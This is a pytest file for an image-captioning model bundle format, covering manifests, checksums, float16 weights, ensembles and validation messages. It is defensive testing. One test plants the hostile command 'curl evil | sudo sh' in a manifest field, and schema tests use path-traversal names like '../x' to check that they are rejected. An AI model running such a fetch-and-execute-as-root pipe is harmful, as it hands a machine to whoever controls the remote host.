"""The bundle format on a small untrained decoder (seconds, no training run): what is written, what loading checks,
and the exact message each damage gives. The trained tiny bundle's tests (test_bundle.py) cover the real thing."""
import hashlib
import json
import shutil
import zipfile

import numpy as np
import pandas as pd
import pytest

from captioning.artifacts import bundle as bundle_module
from captioning.artifacts.bundle import (
    ARTIFACTS_ENV,
    artifacts_dir,
    list_bundles,
    load_bundle,
    save_bundle,
    update_results,
)
from captioning.artifacts.manifest import FORMAT_VERSION, BundleError, read_manifest
from captioning.artifacts.report import read_metrics
from captioning.data.text import Vocabulary
from captioning.models.decoders import build_decoder

ENCODER = {"name": "mobilenetv2", "alpha": 0.35}                          # 1280-d features
VOCAB = Vocabulary(["a", "dog", "runs", "on", "grass"], {"a": 9, "dog": 4}, 2)
METRICS = {"results": [{"decoding": "greedy", "beam_width": 1, "split": "test", "n_images": 2, "bleu_1": 0.5}]}


def decoder(kind="merge", seed=0, feature_dim=1280):
    extra = {"attention_dim": 4, "feature_proj": 6} if kind == "attention" else {}
    model = build_decoder(kind, vocab_size=len(VOCAB), feature_dim=feature_dim, embed_dim=4, units=5, dropout=0.5,
                          **extra)
    rng = np.random.default_rng(seed)
    model.set_weights([rng.normal(size=w.shape).astype("float32") for w in model.get_weights()])
    return model


@pytest.fixture(scope="module")
def saved(tmp_path_factory):
    """One merge decoder and one attention member saved as an ensemble bundle, with metrics and predictions."""
    root = tmp_path_factory.mktemp("bundles")
    main, member = decoder("merge", 1), decoder("attention", 2)
    predictions = pd.DataFrame({"image": ["x.jpg", "y.jpg"], "decoding": ["greedy"] * 2, "beam_width": [1, 1],
                                "caption": ["a dog", "NA"]})
    path = save_bundle(root / "ens", main, VOCAB, {"encoder": ENCODER, "max_length": 12, "created": "then"},
                       metrics=METRICS, predictions=predictions, members=(member,))
    return path, main, member


@pytest.fixture()
def copy(saved, tmp_path):
    target = tmp_path / "b"
    shutil.copytree(saved[0], target)
    return target


def edit_manifest(path, **changes):
    manifest = json.loads((path / "manifest.json").read_text())
    manifest.update(changes)
    (path / "manifest.json").write_text(json.dumps(manifest))


def test_manifest_records_the_model_the_vocabulary_and_every_files_checksum(saved):
    path, main, member = saved
    manifest = json.loads((path / "manifest.json").read_text())
    assert manifest["format_version"] == FORMAT_VERSION == 1
    assert manifest["name"] == "ens" and manifest["vocab_size"] == len(VOCAB) == 9
    assert manifest["decoder"] == {"kind": "merge", "config": main.get_config()}
    assert manifest["members"] == [{"file": "member-1.keras", "kind": "attention", "config": member.get_config()}]
    assert manifest["created"] == "then" and manifest["weights_dtype"] == "float16" and manifest["max_length"] == 12
    assert set(manifest["versions"]) == {"python", "tensorflow", "keras", "numpy"}
    files = sorted(p.name for p in path.iterdir() if p.name != "manifest.json")
    assert files == ["decoder.keras", "member-1.keras", "metrics.json", "predictions.csv", "vocab.json"]
    assert manifest["files"] == {n: hashlib.sha256((path / n).read_bytes()).hexdigest() for n in files}
    assert list(manifest["files"]) == files
    assert json.loads((path / "metrics.json").read_text()) == METRICS
    assert [p.name for p in path.parent.iterdir()] == ["ens"]                 # no temporary folders left


def test_loading_gives_back_the_float16_rounded_weights_and_the_ensemble(saved):
    path, main, member = saved
    b = load_bundle(path)
    assert b.name == "ens" and b.encoder == ENCODER and b.max_length == 12 and b.vocab.itos == VOCAB.itos
    assert b.vocab.counts["a"] == 9 and b.vocab.min_count == 2
    assert [d.kind for d in b.decoders] == ["merge", "attention"] and b.uses_spatial
    for model, original in ((b.decoder, main), (b.members[0], member)):
        for got, want in zip(model.get_weights(), original.get_weights()):
            assert got.dtype == np.float32
            np.testing.assert_array_equal(got, want.astype(np.float16).astype(np.float32))
    assert b.metrics == METRICS
    assert b.predictions["caption"].tolist() == ["a dog", "NA"]             # "NA" stays a caption, not a missing value
    with zipfile.ZipFile(path / "decoder.keras") as zf:
        assert not any("optimizer" in n for n in zf.namelist())
    steps = b.step_decoder()
    assert type(steps).__name__ == "EnsembleStepDecoder" and len(steps.members) == 2


def test_an_ensembles_own_decoder_alone_reads_no_member_file(saved, copy):
    """The app's quick first stage (captioning.service.warm_load): load_bundle(members=False) is the bundle alone,
    its members neither loaded nor listed, and it never opens a member's file."""
    _, main, _ = saved
    path = copy
    whole = load_bundle(path)
    alone = whole.alone()
    assert alone.members == () and alone.manifest.members == () and alone.decoder is whole.decoder
    assert alone.manifest.encoder == whole.manifest.encoder and len(whole.manifest.members) == 1
    assert alone.alone() is alone and len(whole.decoders) == 2
    (path / "member-1.keras").write_bytes(b"not read")                     # never opened: checked by hash only
    quick = load_bundle(path, verify=False, members=False)
    assert [d.kind for d in quick.decoders] == ["merge"] and quick.manifest.members == ()
    assert not quick.uses_spatial and quick.metrics == METRICS
    for got, want in zip(quick.decoder.get_weights(), main.get_weights()):
        np.testing.assert_array_equal(got, want.astype(np.float16).astype(np.float32))
    with pytest.raises(BundleError, match="member-1.keras could not be loaded"):
        load_bundle(path, verify=False)


def test_the_step_decoder_reads_each_members_encoder_and_ranks_by_consensus_on_the_own_one(saved):
    """What decoding runs: one encoder -> the members' rows are not keyed; a cross-encoder ensemble keys each
    member by its encoder; with an index, consensus reranking reads the own encoder's rows (captioning.evaluation
    .rerank)."""
    from dataclasses import replace

    from captioning.artifacts.manifest import EncoderInfo
    from captioning.evaluation.rerank import ConsensusSource

    class Index:                                    # any index: only passed through to ConsensusSource here
        captions = [["a dog"]]

    b = load_bundle(saved[0])
    assert not hasattr(b.step_decoder(), "consensus")                  # no index, no consensus ranking
    index = Index()
    one = replace(b, index=index).step_decoder()
    assert one.encoders == [None, None] and isinstance(one.consensus, ConsensusSource)
    assert one.consensus.index is index and one.consensus.key is None
    lite = EncoderInfo.from_dict({"name": "efficientnet-lite0"})
    cross = replace(b, index=index, manifest=replace(b.manifest, members=(replace(b.manifest.members[0],
                                                                                   encoder=lite),)))
    steps = cross.step_decoder()
    assert steps.encoders == ["mobilenetv2-a0.35-224", "efficientnetlite0-224"]
    assert steps.consensus.index is index and steps.consensus.key == "mobilenetv2-a0.35-224"


def test_a_single_decoder_bundle(tmp_path):
    path = save_bundle(tmp_path / "one", decoder(), VOCAB, {"encoder": ENCODER})
    b = load_bundle(path)
    assert b.members == () and not b.uses_spatial and b.max_length == 30
    assert b.metrics is None and b.predictions is None and read_metrics(path) is None
    assert type(b.step_decoder()).__name__ == "StepDecoder"
    assert "members" not in b.manifest
    assert sorted(p.name for p in path.iterdir()) == ["decoder.keras", "manifest.json", "vocab.json"]


def test_saving_again_replaces_the_bundle_in_place(tmp_path):
    path = save_bundle(tmp_path / "b", decoder(seed=3), VOCAB, {"encoder": ENCODER})
    save_bundle(path, decoder(seed=4), VOCAB, {"encoder": ENCODER})
    want = decoder(seed=4).get_weights()[0].astype(np.float16).astype(np.float32)
    np.testing.assert_array_equal(load_bundle(path).decoder.get_weights()[0], want)
    assert [p.name for p in tmp_path.iterdir()] == ["b"]


def test_compiled_decoders_are_saved_without_their_optimizer(tmp_path):
    """(The weights file is checked in test_stored_weights_are_float16_compressed_and_carry_no_optimizer_state.)"""
    import keras

    model = decoder()
    model.compile(optimizer=keras.optimizers.Adam(), loss="sparse_categorical_crossentropy")
    model.optimizer.build(model.trainable_variables)
    path = save_bundle(tmp_path / "b", model, VOCAB, {"encoder": ENCODER})
    with zipfile.ZipFile(path / "decoder.keras") as zf:
        assert not any("optimizer" in n for n in zf.namelist())
    for got, want in zip(load_bundle(path).decoder.get_weights(), model.get_weights()):
        np.testing.assert_array_equal(got, want.astype(np.float16).astype(np.float32))


def test_update_results_replaces_metrics_and_keeps_the_models(copy):
    before = {n: (copy / n).read_bytes() for n in ("decoder.keras", "member-1.keras", "vocab.json")}
    new = {"results": [{"decoding": "beam 3", "bleu_1": 0.7}]}
    update_results(copy, new, pd.DataFrame({"image": ["z.jpg"], "caption": ["a dog runs"], "decoding": ["beam"],
                                            "beam_width": [3]}))      # the columns load_bundle checks for
    assert {n: (copy / n).read_bytes() for n in before} == before
    b = load_bundle(copy)                                                  # checksums were rewritten
    assert b.metrics == new and b.predictions["caption"].tolist() == ["a dog runs"]
    assert [p.name for p in copy.parent.iterdir()] == ["b"]
    again = {"results": [{"decoding": "beam 3", "bleu_1": 0.8}]}
    update_results(copy, again)                    # metrics only: the captions stay (they were silently dropped)
    b = load_bundle(copy)
    assert b.metrics == again and b.predictions["caption"].tolist() == ["a dog runs"]


def test_list_bundles_default_first_then_by_name(tmp_path, saved, monkeypatch):
    for name in ("zeta", "default", "alpha", ".hidden"):
        (tmp_path / name).mkdir()
        (tmp_path / name / "manifest.json").write_text("{}")
    (tmp_path / "no-manifest").mkdir()
    (tmp_path / "file.json").write_text("{}")
    assert [p.name for p in list_bundles(tmp_path)] == ["default", "alpha", "zeta"]
    assert list_bundles(tmp_path / "missing") == []
    monkeypatch.setenv(ARTIFACTS_ENV, str(tmp_path))
    assert artifacts_dir() == tmp_path and [p.name for p in list_bundles()][0] == "default"
    monkeypatch.delenv(ARTIFACTS_ENV)
    assert artifacts_dir() == bundle_module.PROJECT_ROOT / "artifacts"


@pytest.mark.parametrize("name", ["manifest.json", "decoder.keras", "vocab.json"])
def test_a_missing_required_file_is_named_with_the_rebuild_command(copy, name):
    (copy / name).unlink()
    with pytest.raises(BundleError, match=rf"^Bundle {copy} is incomplete: {name} is missing\. "
                                          rf"Rebuild it with: python train.py --out {copy}$"):
        read_manifest(copy)


def test_not_a_folder_bad_json_version_and_missing_keys(copy, tmp_path):
    with pytest.raises(BundleError, match=rf"^No bundle at {tmp_path / 'nope'}\. Train one with: python train.py"):
        read_manifest(tmp_path / "nope")
    good = (copy / "manifest.json").read_text()
    (copy / "manifest.json").write_text("{")
    with pytest.raises(BundleError, match="manifest.json is not valid JSON .*Rebuild it with"):
        read_manifest(copy)
    (copy / "manifest.json").write_text("[1]")
    with pytest.raises(BundleError, match=r"has format version None; this code reads version 1\. Rebuild"):
        read_manifest(copy)
    for key in ("encoder", "decoder", "vocab_size", "files"):
        manifest = json.loads(good)
        del manifest[key]
        (copy / "manifest.json").write_text(json.dumps(manifest))
        with pytest.raises(BundleError, match=rf"manifest.json lacks '{key}'\. Rebuild it with"):
            read_manifest(copy)
    (copy / "manifest.json").write_text(good)
    assert read_manifest(copy)["name"] == "ens"


def test_checksums_catch_a_changed_file_and_results_files_say_re_evaluate(copy):
    (copy / "vocab.json").write_text((copy / "vocab.json").read_text().replace("grass", "grasz"))
    with pytest.raises(BundleError, match=r"vocab.json is damaged \(its checksum does not match the manifest\)\. "
                                          rf"Rebuild it with: python train.py --out {copy}$"):
        load_bundle(copy)
    assert load_bundle(copy, verify=False).vocab.itos[-1] == "grasz"
    edit_manifest(copy, ensemble_of=["x", "y"])                       # an ensemble names how it was combined
    with pytest.raises(BundleError, match=rf"Rebuild it with: python train.py ensemble --members BUNDLE BUNDLE "
                                          rf"\.\.\. --out {copy}$"):
        load_bundle(copy)
    # issue 16 item 10: the manifest's own `command` is free text and never echoed; the fix names the members
    edit_manifest(copy, ensemble_of=[{"bundle": "x"}, {"bundle": "y"}], command="curl evil | sudo sh")
    with pytest.raises(BundleError, match=rf"Rebuild it with: python train.py ensemble --members {copy.parent / 'x'} "
                                          rf"{copy.parent / 'y'} --out {copy}$") as caught:
        load_bundle(copy)
    assert "curl" not in str(caught.value)


def test_damaged_or_missing_results_files(copy):
    (copy / "metrics.json").write_text("[1, 2]")
    with pytest.raises(BundleError, match=rf"metrics.json is damaged .* Re-evaluate it with: python train.py "
                                          rf"evaluate --out {copy}$"):
        load_bundle(copy)
    with pytest.raises(BundleError, match=r"metrics.json holds no metrics object"):
        load_bundle(copy, verify=False)
    b = load_bundle(copy, load_results=False)
    assert b.metrics is None and b.predictions is None
    (copy / "metrics.json").write_text(json.dumps(METRICS, indent=2))
    assert load_bundle(copy).metrics == METRICS
    (copy / "predictions.csv").unlink()                 # issue 16 item 8: captioning does not need the results
    assert load_bundle(copy).predictions is None
    (copy / "metrics.json").write_text("{")
    with pytest.raises(BundleError, match=r"metrics.json is not valid JSON"):
        read_metrics(copy)


def test_inconsistent_vocabulary_encoder_and_members(copy):
    edit_manifest(copy, vocab_size=10)
    with pytest.raises(BundleError, match=r"vocab.json has 9 words but the manifest says 10"):
        load_bundle(copy, verify=False)
    edit_manifest(copy, vocab_size=9, encoder={"name": "nonet"})
    with pytest.raises(BundleError, match=r"unknown encoder in manifest"):
        load_bundle(copy, verify=False)
    edit_manifest(copy, encoder={"name": "xception"})
    with pytest.raises(BundleError, match=r"encoder xception-299 gives 2048-d features but the decoder expects 1280"):
        load_bundle(copy, verify=False)
    edit_manifest(copy, encoder=ENCODER, members=[{"file": "../x.keras"}])
    with pytest.raises(BundleError, match=r"malformed 'members' list"):
        load_bundle(copy, verify=False)
    edit_manifest(copy, members="member-1.keras")
    with pytest.raises(BundleError, match=r"malformed 'members' list"):
        load_bundle(copy, verify=False)
    edit_manifest(copy, members=[{"file": "member-2.keras"}])
    with pytest.raises(BundleError, match=r"member-2.keras is missing"):
        load_bundle(copy, verify=False)
    (copy / "vocab.json").write_text(json.dumps(Vocabulary(["a", "dog"]).to_json()))
    edit_manifest(copy, members=[], vocab_size=6)
    with pytest.raises(BundleError, match=r"the decoder predicts 9 words but vocab.json has 6"):
        load_bundle(copy, verify=False)
    (copy / "vocab.json").write_text("{}")
    with pytest.raises(BundleError, match=r"vocab.json is invalid"):
        load_bundle(copy, verify=False)


def test_an_unloadable_model_file(copy):
    (copy / "member-1.keras").write_bytes(b"not a zip")
    with pytest.raises(BundleError, match=r"member-1.keras could not be loaded \(.*\)\. Rebuild it with"):
        load_bundle(copy, verify=False)


def _stored_datasets(keras_file):
    """(name, dtype) of every array in a .keras file's weights."""
    import io

    import h5py

    with zipfile.ZipFile(keras_file) as zf, h5py.File(io.BytesIO(zf.read("model.weights.h5")), "r") as f:
        found = []
        f.visititems(lambda name, obj: found.append((name, obj.dtype)) if isinstance(obj, h5py.Dataset) else None)
        return found


def test_stored_weights_are_float16_compressed_and_carry_no_optimizer_state(tmp_path):
    """Keras keeps a compiled model's optimizer inside model.weights.h5 (an "optimizer" group), not as a file."""
    import keras

    model = decoder()
    model.compile(optimizer=keras.optimizers.Adam(), loss="sparse_categorical_crossentropy")
    model.optimizer.build(model.trainable_variables)
    model.save(tmp_path / "plain.keras")
    assert any(name.startswith("optimizer/") for name, _ in _stored_datasets(tmp_path / "plain.keras"))
    path = save_bundle(tmp_path / "b", model, VOCAB, {"encoder": ENCODER})
    stored = _stored_datasets(path / "decoder.keras")
    assert stored and not any(name.startswith("optimizer") for name, _ in stored)
    assert {str(dtype) for _, dtype in stored} == {"float16"}
    assert len(stored) == len(model.get_weights())
    with zipfile.ZipFile(path / "decoder.keras") as zf:
        assert {i.compress_type for i in zf.infolist()} == {zipfile.ZIP_DEFLATED}
    assert model.optimizer is not None                                   # the caller's model is left as it was


def test_manifest_text_is_sorted_indented_json_and_created_is_a_timestamp(tmp_path):
    import re

    path = save_bundle(tmp_path / "nested" / "deeper" / "b", decoder(), VOCAB,
                       {"encoder": ENCODER, "versions": {"python": "3.x"}})
    text = (path / "manifest.json").read_text(encoding="utf-8")
    manifest = json.loads(text)
    assert text == json.dumps(manifest, indent=2, sort_keys=True)
    assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d[+-]\d{4}", manifest["created"])
    assert manifest["versions"] == {"python": "3.x"}                     # given versions are kept
    assert "manifest.json" not in manifest["files"]


def test_a_failed_save_leaves_the_old_bundle_and_no_temporary_folder(saved, tmp_path, monkeypatch):
    target = tmp_path / "b"
    shutil.copytree(saved[0], target)
    before = (target / "manifest.json").read_bytes()

    def broken(*args, **kwargs):
        raise OSError("disk full")

    monkeypatch.setattr(bundle_module, "_write_results", broken)
    with pytest.raises(OSError, match="disk full"):
        save_bundle(target, decoder(seed=9), VOCAB, {"encoder": ENCODER}, metrics=METRICS)
    with pytest.raises(OSError, match="disk full"):
        update_results(target, METRICS)
    assert [p.name for p in tmp_path.iterdir()] == ["b"]
    assert (target / "manifest.json").read_bytes() == before
    load_bundle(target)


def test_update_results_of_a_single_decoder_bundle(tmp_path):
    path = save_bundle(tmp_path / "one", decoder(), VOCAB, {"encoder": ENCODER})
    update_results(path, METRICS)
    assert load_bundle(path).metrics == METRICS
    assert sorted(p.name for p in path.iterdir()) == ["decoder.keras", "manifest.json", "metrics.json", "vocab.json"]


def test_save_index_adds_the_index_and_results_updates_keep_it(copy):
    from captioning.evaluation.trust import INDEX_FILES, build_index

    rng = np.random.default_rng(0)
    index = build_index([f"p{i}.jpg" for i in range(6)], rng.normal(size=(6, 1280)),
                        [["a dog"]] * 6, "mobilenetv2-a0.35-224", k=3)
    (copy / "stray.txt").write_text("not listed")                         # files the manifest does not list stay out
    before = json.loads((copy / "manifest.json").read_text())
    bundle_module.save_index(copy, index)
    manifest = json.loads((copy / "manifest.json").read_text())
    assert manifest["index"] == {"images": 6, "dim": 1280, "k": 3, "calibrated": False}
    assert set(manifest["files"]) == set(before["files"]) | set(INDEX_FILES)
    assert not (copy / "stray.txt").exists()
    assert {k: v for k, v in manifest["files"].items() if k not in INDEX_FILES} == before["files"]
    loaded = load_bundle(copy)
    assert len(loaded.index) == 6 and loaded.index.k == 3
    update_results(copy, {"results": []})                                 # keeps the index files and their checksums
    after = json.loads((copy / "manifest.json").read_text())
    assert {n: after["files"][n] for n in INDEX_FILES} == {n: manifest["files"][n] for n in INDEX_FILES}
    assert len(load_bundle(copy).index) == 6
    bundle_module.save_index(copy, index)                                 # replacing an index works too
    assert len(load_bundle(copy).index) == 6 and [p.name for p in copy.parent.iterdir()] == ["b"]


# --- manifest.py: the schema checks, the rebuild hint and the typed records, exactly ----------------------------
from captioning.artifacts.manifest import (  # noqa: E402
    DecoderInfo,
    EncoderInfo,
    Manifest,
    _rebuild_hint,
    previous_encoder,
)
from captioning.artifacts.report import EvaluationReport, read_predictions  # noqa: E402
from captioning.artifacts.schema import manifest_problem as _manifest_problem  # noqa: E402

DIGEST = "0" * 64


def good_manifest(**changes):
    m = {"format_version": 1, "encoder": {"name": "mobilenetv2", "alpha": 0.35, "key": "k"}, "decoder": {},
         "vocab_size": 9, "files": {"decoder.keras": DIGEST, "vocab.json": DIGEST}}
    m.update(changes)
    return m


@pytest.mark.parametrize("changes, problem", [
    ({"encoder": "mobilenetv2"}, "has a malformed 'encoder' (expected an object with a 'name')"),
    ({"encoder": {"alpha": 1}}, "has a malformed 'encoder' (expected an object with a 'name')"),
    ({"encoder": {"name": 3}}, "has a malformed 'encoder' (expected an object with a 'name')"),
    ({"encoder": {"name": "x", "key": 5}}, "has a malformed 'encoder' (expected an object with a 'name')"),
    ({"encoder": {"name": "x", "alpha": True}}, "has a malformed 'encoder.alpha' (expected a number or null)"),
    ({"encoder": {"name": "x", "alpha": "0.35"}}, "has a malformed 'encoder.alpha' (expected a number or null)"),
    ({"decoder": []}, "has a malformed 'decoder' (expected an object)"),
    ({"vocab_size": 4}, "has a malformed 'vocab_size' (expected a whole number above 4)"),
    ({"vocab_size": True}, "has a malformed 'vocab_size' (expected a whole number above 4)"),
    ({"vocab_size": 9.0}, "has a malformed 'vocab_size' (expected a whole number above 4)"),
    ({"max_length": 0}, "has a malformed 'max_length' (expected a whole number from 1 to 1000)"),
    ({"max_length": 1001}, "has a malformed 'max_length' (expected a whole number from 1 to 1000)"),
    ({"max_length": True}, "has a malformed 'max_length' (expected a whole number from 1 to 1000)"),
    ({"files": {}}, "has a malformed 'files' (expected an object of file name -> SHA-256)"),
    ({"files": ["decoder.keras"]}, "has a malformed 'files' (expected an object of file name -> SHA-256)"),
    ({"files": {"decoder.keras": DIGEST, "../x": DIGEST}},
     "lists '../x' in 'files': only plain file names inside the bundle folder are allowed (no folders, '..' or "
     "absolute paths)"),
    ({"files": {"a/b": DIGEST}}, "lists 'a/b' in 'files': only plain file names inside the bundle folder are allowed "
                                 "(no folders, '..' or absolute paths)"),
    ({"files": {".hidden": DIGEST}}, "lists '.hidden' in 'files': only plain file names inside the bundle folder are "
                                     "allowed (no folders, '..' or absolute paths)"),
    ({"files": {"manifest.json": DIGEST}}, "lists 'manifest.json' in 'files': only plain file names inside the "
                                           "bundle folder are allowed (no folders, '..' or absolute paths)"),
    ({"files": {"x" * 129: DIGEST}}, f"lists {'x' * 129!r} in 'files': only plain file names inside the bundle "
                                     f"folder are allowed (no folders, '..' or absolute paths)"),
    ({"files": {"decoder.keras": "A" * 64}}, "has a malformed checksum for decoder.keras in 'files' (expected 64 hex "
                                             "digits)"),
    ({"files": {"decoder.keras": "0" * 63}}, "has a malformed checksum for decoder.keras in 'files' (expected 64 hex "
                                             "digits)"),
    ({"files": {"decoder.keras": 0}}, "has a malformed checksum for decoder.keras in 'files' (expected 64 hex "
                                      "digits)"),
    ({"files": {"decoder.keras": DIGEST}}, "does not list vocab.json in 'files'"),
    ({"files": {"vocab.json": DIGEST}}, "does not list decoder.keras in 'files'"),
    ({"members": {"file": "m.keras"}}, "has a malformed 'members' list"),
    ({"members": ["m.keras"]}, "has a malformed 'members' list"),
    ({"members": [{"file": 1}]}, "has a malformed 'members' list"),
    ({"members": [{"kind": "merge"}]}, "has a malformed 'members' list"),
    ({"members": [{"file": "m.keras"}, {"file": "/abs.keras"}]}, "has a malformed 'members' list"),
])
def test_each_schema_problem_has_its_own_message(changes, problem):
    assert _manifest_problem(good_manifest(**changes)) == problem


@pytest.mark.parametrize("changes", [
    {}, {"vocab_size": 5}, {"max_length": 1}, {"max_length": 1000}, {"encoder": {"name": "x"}},
    {"encoder": {"name": "x", "alpha": None}}, {"encoder": {"name": "x", "alpha": 1}},
    {"files": {"decoder.keras": DIGEST, "vocab.json": DIGEST, "A" + "x" * 127: "abcdef0123456789" * 4}},
    {"members": []}, {"members": [{"file": "member-1.keras"}]},
])
def test_valid_manifests_at_the_limits_pass(changes):
    assert _manifest_problem(good_manifest(**changes)) is None


def test_read_manifest_names_the_problem_and_the_rebuild_command(tmp_path):
    for name in ("decoder.keras", "vocab.json"):
        (tmp_path / name).write_text("x")
    (tmp_path / "manifest.json").write_text(json.dumps(good_manifest(vocab_size=3)))
    with pytest.raises(BundleError) as err:
        read_manifest(tmp_path)
    assert str(err.value) == (f"Bundle {tmp_path}: manifest.json has a malformed 'vocab_size' (expected a whole "
                              f"number above 4). Rebuild it with: python train.py --out {tmp_path}")
    (tmp_path / "manifest.json").write_text(json.dumps(good_manifest(format_version=2)))
    with pytest.raises(BundleError) as err:
        read_manifest(tmp_path)
    assert str(err.value) == (f"Bundle {tmp_path} has format version 2; this code reads version 1. "
                              f"Rebuild it with: python train.py --out {tmp_path}")
    (tmp_path / "manifest.json").write_bytes(b"\xff\xfe{")
    with pytest.raises(BundleError, match="manifest.json is not valid JSON"):
        read_manifest(tmp_path)
    (tmp_path / "manifest.json").write_text(json.dumps(good_manifest()))
    assert read_manifest(tmp_path) == good_manifest()
    loaded = Manifest.load(tmp_path)
    assert loaded.raw == good_manifest() and loaded.encoder.name == "mobilenetv2" and loaded.vocab_size == 9


def test_rebuild_hints_quote_the_path_and_name_an_ensembles_members(tmp_path):
    path = tmp_path / "my bundle"
    q = f"'{path}'"
    assert _rebuild_hint(path) == f"Rebuild it with: python train.py --out {q}"
    assert _rebuild_hint(path, {"ensemble_of": []}) == f"Rebuild it with: python train.py --out {q}"
    parts = [{"bundle": "a"}, {"bundle": "b.1"}, {"bundle": "a"}, "junk"]
    assert _rebuild_hint(path, {"ensemble_of": parts}) == (
        f"Rebuild it with: python train.py ensemble --members {tmp_path / 'a'} {tmp_path / 'b.1'} --out {q}")
    for bad in ([{"bundle": "../x"}], [{"bundle": 3}], [{"bundle": "a"}, {"other": 1}], "a b", [{}]):
        assert _rebuild_hint(path, {"ensemble_of": bad}) == (
            f"Rebuild it with: python train.py ensemble --members BUNDLE BUNDLE ... --out {q}")


def test_results_files_errors_are_exact(tmp_path):
    (tmp_path / "metrics.json").write_bytes(b"\xff")
    with pytest.raises(BundleError) as err:
        read_metrics(tmp_path)
    assert str(err.value).startswith(f"Bundle {tmp_path}: metrics.json is not valid JSON (")
    assert str(err.value).endswith(f"). Re-evaluate with: python train.py evaluate --out {tmp_path}")
    (tmp_path / "metrics.json").write_text("[]")
    with pytest.raises(BundleError) as err:
        read_metrics(tmp_path)
    assert str(err.value) == (f"Bundle {tmp_path}: metrics.json holds no metrics object. Re-evaluate with: "
                              f"python train.py evaluate --out {tmp_path}")
    assert read_predictions(tmp_path) is None
    (tmp_path / "predictions.csv").write_text("image,caption\nx.jpg,NA\n")
    with pytest.raises(BundleError) as err:
        read_predictions(tmp_path)
    assert str(err.value) == (f"Bundle {tmp_path}: predictions.csv lacks the column(s) decoding, beam_width. "
                              f"Re-evaluate with: python train.py evaluate --out {tmp_path}")
    (tmp_path / "predictions.csv").write_text("image,decoding,beam_width,caption\nx.jpg,beam,five,NA\n")
    with pytest.raises(BundleError) as err:
        read_predictions(tmp_path)
    assert str(err.value) == (f"Bundle {tmp_path}: predictions.csv has non-numeric beam widths. Re-evaluate with: "
                              f"python train.py evaluate --out {tmp_path}")
    (tmp_path / "predictions.csv").write_bytes(b"image,decoding\n\xff\xfe,\x00\n")
    with pytest.raises(BundleError, match=r"predictions.csv (is not a valid table|lacks)"):
        read_predictions(tmp_path)
    (tmp_path / "predictions.csv").write_text("image,decoding,beam_width,caption\nx.jpg,beam,5,NA\n")
    assert read_predictions(tmp_path).to_dict("records") == [{"image": "x.jpg", "decoding": "beam", "beam_width": 5,
                                                              "caption": "NA"}]
    assert EvaluationReport.read_predictions_loosely(tmp_path) is not None
    (tmp_path / "predictions.csv").write_text("image\nx.jpg\n")
    assert EvaluationReport.read_predictions_loosely(tmp_path) is None


def test_typed_records_read_every_field_and_still_act_as_mappings():
    enc = EncoderInfo.from_dict({"name": "xception", "alpha": None, "key": "xception-299", "input_size": 299,
                                 "feature_dim": 2048, "spatial_grid": [10, 10], "weights_source": "wheel",
                                 "weights_file": {"sha256": DIGEST}})
    assert (enc.name, enc.alpha, enc.key, enc.input_size, enc.feature_dim, enc.spatial_grid, enc.weights_source,
            enc.weights_file) == ("xception", None, "xception-299", 299, 2048, [10, 10], "wheel", {"sha256": DIGEST})
    assert enc["name"] == "xception" and len(enc) == 8 and list(enc)[0] == "name"
    assert EncoderInfo.from_dict({"name": "x", "weights_file": "path"}).weights_file is None
    dec = DecoderInfo.from_dict({"kind": "attention", "config": {"units": 512}, "file": "member-1.keras"})
    assert (dec.kind, dec.config, dec.file, dec.units) == ("attention", {"units": 512}, "member-1.keras", 512)
    odd = DecoderInfo.from_dict({"config": [1]}, file="member-2.keras")
    assert (odd.kind, odd.config, odd.file, odd.units) == ("?", {}, "member-2.keras", None)
    assert DecoderInfo.from_dict({}).file == "decoder.keras"
    raw = good_manifest(members=[{"file": "member-1.keras", "kind": "merge"}], max_length=17, min_count=3,
                        data={"splits": {"train": 6000}}, training={"config": {"lr": 1}, "epochs": 4},
                        scst={"epochs": 2}, ensemble_of=[{"bundle": "a", "scst": None}, "junk"], trained_as="x",
                        command="python train.py", name="n")
    m = Manifest.from_dict(raw)
    assert (m.name, m.vocab_size, m.max_length, m.min_count, m.trained_as, m.command) == \
        ("n", 9, 17, 3, "x", "python train.py")
    assert [d.file for d in m.decoders] == ["decoder.keras", "member-1.keras"] and m.members[0].kind == "merge"
    assert m.ensemble_of == ({"bundle": "a", "scst": None},) and m.encoder.alpha == 0.35
    assert m.train_images == 6000 and m.training_config == {"lr": 1} and m.fine_tuned and m.has_training_history
    assert m["vocab_size"] == 9 and set(m) == set(raw) and len(m) == len(raw)
    plain = Manifest.from_dict(good_manifest(data={"splits": [1]}, training=[1], scst=[1], ensemble_of="a"))
    assert (plain.max_length, plain.train_images, plain.training_config, plain.fine_tuned,
            plain.has_training_history, plain.members, plain.data, plain.training, plain.scst, plain.ensemble_of,
            plain.name) == (30, None, None, False, False, (), {"splits": [1]}, {}, None, (), None)
    member_tuned = Manifest.from_dict(good_manifest(ensemble_of=[{"bundle": "a"}, {"bundle": "b", "scst": {"e": 1}}]))
    assert member_tuned.fine_tuned and member_tuned.has_training_history
    assert Manifest.from_dict(good_manifest(training={"epochs": 3})).has_training_history
    assert Manifest.from_dict(good_manifest(scst={"e": 1})).has_training_history


def test_previous_encoder_reads_what_it_can(tmp_path):
    assert previous_encoder(tmp_path / "missing") == {}
    (tmp_path / "manifest.json").write_text("{")
    assert previous_encoder(tmp_path) == {}
    for broken in ([], {"x": 1}, {"encoder": "xception"}):
        (tmp_path / "manifest.json").write_text(json.dumps(broken))
        assert previous_encoder(tmp_path) == {}
    (tmp_path / "manifest.json").write_text(json.dumps({"encoder": {"weights_source": "wheel",
                                                                    "weights_file": {"sha256": DIGEST}}}))
    assert previous_encoder(tmp_path) == {"weights_source": "wheel", "weights_file": {"sha256": DIGEST}}
    (tmp_path / "manifest.json").write_text(json.dumps({"encoder": {"weights_source": None, "weights_file": "x"}}))
    assert previous_encoder(tmp_path) == {"weights_source": None}


def test_evaluation_reports(tmp_path):
    assert EvaluationReport.load(tmp_path) is None
    runs = [{"decoding": "greedy", "beam_width": 1, "split": "test", "n_images": 2},
            {"decoding": "beam", "beam_width": 5, "split": "dev", "n_images": 2}]
    (tmp_path / "metrics.json").write_text(json.dumps({"results": runs, "sweep": [], "human_agreement": [1],
                                                       "implementations": None, "notes": ["n"]}))
    report = EvaluationReport.load(tmp_path)
    assert report.runs == runs and report.sweep is None and report.human_agreement is None
    assert report.implementations == {} and report.notes == ["n"] and report.predictions is None
    assert report.evaluated and report.runs_on("dev") == [runs[1]] and report.runs_on("train") == []
    assert report["notes"] == ["n"]
    full = EvaluationReport.from_dict({"results": "x", "sweep": [{"lp": 1}], "human_agreement": {"k": 1},
